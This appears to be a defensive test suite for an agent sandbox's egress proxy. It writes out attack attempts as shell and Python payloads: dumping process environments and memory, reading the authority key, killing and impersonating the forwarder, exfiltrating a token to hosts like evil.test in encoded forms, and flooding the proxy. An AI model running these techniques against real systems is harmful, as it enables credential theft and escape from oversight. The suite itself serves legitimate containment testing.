        `ln -s ${neighbour.way?.folder}/proxy.sock p.sock; curl -sS -m 2 --unix-socket p.sock ${plain(internet, "neighbour.test")}/x; cp -a ${proxySocket} c.sock; mknod m.sock s; curl -sS -m 2 --unix-socket c.sock ${plain(internet, "neighbour.test")}/x`
    },
    {
      name: "the certificates that are trusted",
      container:
        "echo x > /run/claw/authorities.pem; sed -i d /run/claw/authorities.pem; cp /etc/hosts /run/claw/authorities.pem; : > /run/claw/authorities.pem; grep -c BEGIN /run/claw/authorities.pem",
      holds: says(/^[1-9]\d*$/m)
    },
    {
      name: "the forwarder, killed, stopped and in its place another",
      container: `for p in /proc/[0-9]*; do grep -qa perl $p/cmdline && kill -9 \${p#/proc/}; done; python3 - <<'PY'
import socket
for family, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
    s = socket.socket(family)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try: s.bind((host, 3128)); s.listen(); print('listens at', host)
    except OSError as e: print(e.strerror.lower())
PY
sleep 0.3`
    }
  ])
)

const bearer = `-H "authorization: Bearer $TOKEN"`

/** Asks the host that has the secret for something that repeats it; what comes shows the placeholder, or the refusal. */
const repeated = (name: string, path: string, options = bearer, holds = says(/claw_secret_TOKEN/)): Attempted => ({
  name: `a host that repeats it, ${name}`,
  container: ({ world: { internet } }) =>
    `for base in ${plain(internet)} ${secure(internet)}; do curl -sS -m 4 ${options} "$base${path}"; done`,
  holds
})

/** Sends a secret that the agent was told to a host that may not have it. */
const told = (name: string, messages: (internet: World["internet"]) => ReadonlyArray<string>): Attempted => ({
  name: `a secret that it was told, ${name}`,
  container: ({ world: { internet } }) => sent(...messages(internet)),
  holds: allSay(/^answered (?:4\d\d|50[123]|by nothing)$/)
})

const toOpen = (internet: World["internet"], headers: string, body: string | Buffer) => {
  const bytes = typeof body === "string" ? body : body.toString("latin1")
  return `POST ${plain(internet, "open.test")}/ HTTP/1.1\r\nhost: a\r\nconnection: close\r\n${headers}content-length: ${bytes.length}\r\n\r\n${bytes}`
}

const secrets = group(
  "The way out: secrets",
  inSession([
    {
      name: "the environment and the command line of every process",
      container: "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/task/*/environ | tr '\\0' '\\n'; set",
      holds: says(/^TOKEN=claw_secret_TOKEN$/m)
    },
    {
      name: "every file that can be read, of the way out, the home and the kernel's",
      container:
        "cat /run/claw/*.pem; grep -rIs . ~ /tmp /workspace /run /etc | head -c 3000000; for f in status stat maps mountinfo net/unix net/tcp limits; do cat /proc/[0-9]*/$f; done | head -c 200000 | md5sum",
      deadline: "20 seconds"
    },
    {
      name: "the memory of the forwarder and of the runner",
      container: `python3 - <<'PY'
import os
for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    try:
        for line in open('/proc/%s/maps' % pid):
            begin, end = (int(x, 16) for x in line.split()[0].split('-'))
            if 'r' not in line.split()[1] or end - begin > 1 << 26: continue
            with open('/proc/%s/mem' % pid, 'rb') as memory:
                memory.seek(begin)
                try: os.write(1, memory.read(end - begin)[:200000])
                except (OSError, ValueError): pass
    except OSError as e: print(e.strerror.lower())
PY`,
      deadline: "20 seconds"
    },
    {
      name: "the key of the authority",
      container: ({ own, world: { internet } }: Place) =>
        `ls ${own.way?.folder}/..; cat ${own.way?.folder}/../authority.pem /run/claw/../authority.pem /run/claw/authority.pem /proc/[0-9]*/root/run/claw/../authority.pem; grep -c 'PRIVATE KEY' /run/claw/authorities.pem; curl -sS -m 3 '${plain(internet)}/../../authority.pem' --path-as-is; ${sent(get("/authority.pem"), get("/run/claw/authority.pem"), get("file:///run/claw/authority.pem"))}`,
      holds: says(/^0$/m)
    },
    repeated("in its answer", "/echo?a=claw_secret_TOKEN"),
    repeated("in basic authorization", "/echo", '-u "me:$TOKEN"', says(/[Bb]asic/)),
    repeated(
      "in an address and in cookies",
      "/echo/claw_secret_TOKEN?k=claw_secret_TOKEN",
      `${bearer} -b a=claw_secret_TOKEN`
    ),
    repeated("in base64, percent signs, hexadecimal and UTF-16", "/forms"),
    repeated("in headers, a status and an early hint", "/header", `${bearer} -i`),
    repeated("in a header's name", "/name", `${bearer} -i`),
    repeated("in a trailer", "/trailer", `${bearer} -i --raw -H 'te: trailers'`, says(/in a trailer/)),
    repeated("a character at a time", "/pieces"),
    repeated("where it redirects to", "/redirect?to=/echo", `${bearer} -iL`),
    repeated("compressed", "/content-encoding", `${bearer} --compressed`, says(/cannot be looked through/)),
    {
      name: "a host that repeats it, compressed on its way",
      container: ({ world: { internet } }) => `python3 - <<'PY'
import os, re, socket, zlib
s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(2); got = b''
s.sendall(('GET ${plain(internet)}/transfer-encoding HTTP/1.1\\r\\nhost: a\\r\\nte: gzip\\r\\nconnection: close\\r\\nauthorization: Bearer ' + os.environ['TOKEN'] + '\\r\\n\\r\\n').encode())
try:
    while True:
        more = s.recv(65536)
        if not more: break
        got += more
except OSError: pass
print(got.decode('latin1'))
body = got.partition(b'\\r\\n\\r\\n')[2]
begin = body.find(b'\\x1f\\x8b')
if begin >= 0: print(zlib.decompressobj(31).decompress(body[begin:]).decode())
PY`,
      holds: says(/HTTP\/1\.1 502/)
    },
    {
      name: "a host that repeats it, a part at a time",
      container: ({ world: { internet } }) =>
        `a=$(curl -sS -m 3 ${bearer} -r 0-14 ${plain(internet)}/range); b=$(curl -sS -m 3 ${bearer} -r 15- ${plain(internet)}/range); echo "$a$b"`,
      holds: says(/claw_secret_TOKEN/)
    },
    {
      name: "its placeholder, to other hosts",
      container: ({ world: { internet } }) =>
        `curl -sS -m 3 ${bearer} -u "me:$TOKEN" -b "a=$TOKEN" -d "$TOKEN" "${plain(internet, "open.test")}/echo?k=$TOKEN"; curl -sS -m 3 ${bearer} "${plain(internet, "strict.test")}/ok"; curl -sS -m 3 ${bearer} "${plain(internet, "evil.test")}/"; curl -sS -m 3 ${bearer} -H 'host: open.test' "${plain(internet)}/hello"`,
      holds: says(/claw_secret_TOKEN/)
    },
    {
      name: "its placeholder, where a host's name is",
      container: ({ world: { internet } }) =>
        `${asked(internet, "claw_secret_TOKEN.evil.test", "claw_secret_TOKEN@evil.test")}
curl -sS -m 3 http://claw_secret_TOKEN.wild.test:${internet.port}/echo`,
      holds: (seen) => assert.notMatch(seen.stdout, /answered 200$/m)
    },
    told("plain, in an address, a header and a body", (internet) => [
      get(`${plain(internet, "open.test")}/${internet.spilled}`),
      get(`${plain(internet, "open.test")}/?a=${internet.spilled}`),
      get(`${plain(internet, "open.test")}/`, `host: a\r\nx: ${internet.spilled}\r\n`),
      get(`${plain(internet, "open.test")}/`, `host: a\r\n${internet.spilled}: x\r\n`),
      toOpen(internet, "", internet.spilled),
      toOpen(internet, "", `${"x".repeat(70_000)}${internet.spilled}`)
    ]),
    told("to the host of another", (internet) => [
      get(`${plain(internet)}/?a=${internet.spilled}`),
      get(`${plain(internet)}/`, `host: a\r\nauthorization: Bearer ${internet.spilled}\r\n`)
    ]),
    told("in percent signs, base64, hexadecimal and UTF-16", ({ spilled, ...internet }) => {
      const all = { spilled, ...internet }
      const percent = spilled.replace(/./g, (character) => `%${character.charCodeAt(0).toString(16)}`)
      return [
        get(`${plain(all, "open.test")}/?a=${percent}`),
        get(`${plain(all, "open.test")}/?a=${percent.replaceAll("%", "%25")}`),
        ...[0, 1, 2].map((length) => toOpen(all, "", Buffer.from("x".repeat(length) + spilled).toString("base64"))),
        get(`${plain(all, "open.test")}/${Buffer.from(spilled).toString("base64url")}`),
        get(`${plain(all, "open.test")}/${Buffer.from(spilled).toString("hex")}`),
        get(
          `${plain(all, "open.test")}/`,
          `host: a\r\nauthorization: Basic ${Buffer.from(`x:${spilled}`).toString("base64")}\r\n`
        ),
        toOpen(all, "", Buffer.from(spilled, "utf16le"))
      ]
    }),
    told("compressed, with more behind it, and compressed twice", (internet) => [
      toOpen(internet, "content-encoding: gzip\r\n", gzipSync(internet.spilled)),
      toOpen(internet, "content-encoding: gzip\r\n", Buffer.concat([gzipSync("x"), gzipSync(internet.spilled)])),
      toOpen(
        internet,
        "content-encoding: gzip\r\n",
        Buffer.concat([gzipSync("x"), Buffer.from(`\0\0\0${internet.spilled}`)])
      ),
      toOpen(internet, "content-encoding: gzip, gzip\r\n", gzipSync(gzipSync(internet.spilled))),
      toOpen(internet, "content-encoding: zstd\r\n", internet.spilled),
      toOpen(internet, "content-encoding: gzip\r\ncontent-encoding: identity\r\n", gzipSync(internet.spilled))
    ]),
    told("in chunks, a character each, and in what chunks say beside", (internet) => {
      const head = `POST ${plain(internet, "open.test")}/ HTTP/1.1\r\nhost: a\r\nconnection: close\r\ntransfer-encoding: chunked\r\n\r\n`
      return [
        `${head}${internet.spilled
          .split("")
          .map((character) => `1\r\n${character}\r\n`)
          .join("")}0\r\n\r\n`
      ]
    }),
    told("in a host's name", (internet) => [
      get(`http://${internet.spilled}.wild.test:${internet.port}/`),
      get(`http://${internet.spilled.toUpperCase()}.wild.test:${internet.port}/`),
      connectTo(`${internet.spilled}.wild.test:${internet.securePort}`),
      connectTo(`${internet.spilled}.evil.test:${internet.securePort}`)
    ])
  ])
)

const much = group(
  "The way out: too much",
  inSession([
    {
      name: "a body without end",
      container: ({ world: { internet } }) =>
        `head -c 100000000 /dev/zero | curl -sS -m 8 -T - -o /dev/null -w '%{http_code}\\n' ${plain(internet)}/echo; head -c 100000000 /dev/zero | curl -sS -m 8 -T - -o /dev/null -w '%{http_code}\\n' ${secure(internet)}/echo`,
      deadline: "20 seconds",
      holds: (seen) => assert.notMatch(seen.stdout, /^200$/m)
    },
    {
      name: "an answer without end",
      container: ({ world: { internet } }) =>
        `curl -sS -m 8 -o /dev/null -w '%{size_download}\\n' ${plain(internet)}/endless; curl -sS -m 8 -o /dev/null -w '%{size_download}\\n' ${secure(internet, "open.test")}/endless; curl -sS -m 8 ${bearer} --limit-rate 1k -o /dev/null -w '%{size_download}\\n' ${plain(internet)}/endless`,
      deadline: "30 seconds",
      holds: (seen) => {
        for (const size of seen.stdout.trim().split("\n")) assert.isAtMost(Number(size), 33 * 1024 * 1024)
      }
    },
    {
      name: "an answer that never comes",
      container: ({ world: { internet } }) =>
        `curl -sS -m 9 -o /dev/null -w '%{http_code}\\n' ${plain(internet)}/never`,
      deadline: "12 seconds",
      holds: says(/^504$/m)
    },
    {
      name: "a body that is large once it is decoded",
      container: ({ world: { internet } }) =>
        `head -c 2000000000 /dev/zero | gzip -1 > z; for i in 1 2 3 4; do curl -sS -m 8 -H 'content-encoding: gzip' -H 'expect:' --data-binary @z -o /dev/null -w '%{http_code}\\n' ${plain(internet)}/echo & done; wait`,
      deadline: "45 seconds",
      holds: (seen) => assert.notMatch(seen.stdout, /^200$/m)
    },
    {
      name: "a thousand connections at once, while another session asks",
      act: {
        in: real,
        by: ({ neighbour, own, world: { internet } }) =>
          Effect.gen(function* () {
            const attack = yield* Effect.forkChild(
              Sandbox.run(own.session, {
                run: `python3 - <<'PY'
import resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
for i in range(1000):
    try:
        s = socket.socket(); s.settimeout(1); s.connect(('127.0.0.1', 3128)); s.send(b'GET ${plain(internet)}/ HTTP/1.1\\r\\nhost:'); held.append(s)
    except OSError: pass
print('held', len(held), flush=True)
time.sleep(3)
PY`,
                deadline: "20 seconds"
              })
            )
            yield* Effect.sleep("1 second")
            const ask = `curl -sS -m 1 http://neighbour.test:${internet.port}${internet.neighbourPath}`
            const asked = yield* Effect.forEach([1, 2, 3, 4], () =>
              Effect.delay(Sandbox.run(neighbour.session, { run: ask }), "200 millis")
            )
            assert.deepStrictEqual(
              asked.map(({ stdout }) => stdout),
              asked.map(() => "hello\n"),
              asked.map(({ stderr }) => stderr).join("\n")
            )
            attack.interruptUnsafe()
            return "the other session is answered"
          })
      }
    },
    {
      name: "requests that never end, on all connections",
      container: ({ world: { internet } }) => `python3 - <<'PY'
import socket, time
held = [socket.create_connection(('127.0.0.1', 3128)) for i in range(70)]
for turn in range(8):
    for s in held:
        try: s.send(b'POST ${plain(internet)}/echo HTTP/1.1\\r\\nhost: a\\r\\ncontent-length: 100\\r\\n\\r\\n' if turn == 0 else b'x')
        except OSError: pass
    time.sleep(0.2)
PY`
    },
    {
      name: "requests without number",
      alone: {},
      container: ({ world: { internet } }) => `python3 - <<'PY'
import re, socket
s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(5); seen = {}
import threading
def feed():
    try:
        for i in range(4000): s.sendall(b'GET ${plain(internet)}/ HTTP/1.1\\r\\nhost: a\\r\\n\\r\\n')
    except OSError: pass
threading.Thread(target=feed, daemon=True).start()
got = b''
try:
    while True:
        more = s.recv(65536)
        if not more: break
        got += more
except OSError: pass
for status in re.findall(rb'^HTTP/1.1 (\\d+)', got, re.M): seen[status] = seen.get(status, 0) + 1
print(seen)
PY`,
      deadline: "30 seconds",
      holds: (seen) => assert.isAtMost(Number(/b'200': (\d+)/.exec(seen.stdout)?.[1] ?? 0), 3000)
    }
  ])
)

export const wayOut: ReadonlyArray<Attempt> = [...hosts, ...requests, ...sockets, ...secrets, ...much]
